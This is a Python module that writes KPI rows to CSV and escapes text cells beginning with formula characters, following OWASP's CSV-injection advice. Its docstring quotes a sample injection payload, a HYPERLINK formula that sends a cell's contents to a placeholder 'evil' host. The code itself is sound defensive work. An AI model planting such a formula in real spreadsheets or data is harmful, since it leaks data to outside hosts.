"""CSV the service writes (`aftersales kpis --csv`), safe to open in Excel and LibreOffice.

Cells come from the team's sheet (an Assignee, a platform name), so a cell such as
`=HYPERLINK("http://evil/?"&A1,"Click")` would run as a formula when the file is opened. OWASP's
CSV-injection advice: a text cell beginning with `=`, `+`, `-`, `@`, tab or carriage return gets a
leading single quote, which spreadsheet apps show as text. Real numbers (int/float values, such
as a count or a -3.5 hour median) are written as they are: a number is never a formula, and
quoting it would turn every figure into text nobody can sum. Only `str` cells are escaped.
"""

from __future__ import annotations

import csv
import json
from collections.abc import Iterable, Mapping
from typing import Final, TextIO

#: Characters that make a spreadsheet app read a cell as a formula (OWASP CSV injection).
FORMULA_STARTS: Final = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: object) -> object:
    """A CSV cell: text that could start a formula gets a leading `'`; numbers stay numbers."""
    if isinstance(value, list | tuple | dict):
        value = json.dumps(value, ensure_ascii=False)
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def write_csv(stream: TextIO, rows: Iterable[Mapping[str, object]]) -> None:
    """Write `rows` (dicts sharing the first row's keys) with a header, every cell made safe."""
    items = list(rows)
    fieldnames = list(items[0]) if items else ["group"]
    writer = csv.DictWriter(stream, fieldnames=fieldnames)
    writer.writerow({name: safe_cell(name) for name in fieldnames})
    for item in items:
        writer.writerow({k: safe_cell(v) for k, v in item.items()})
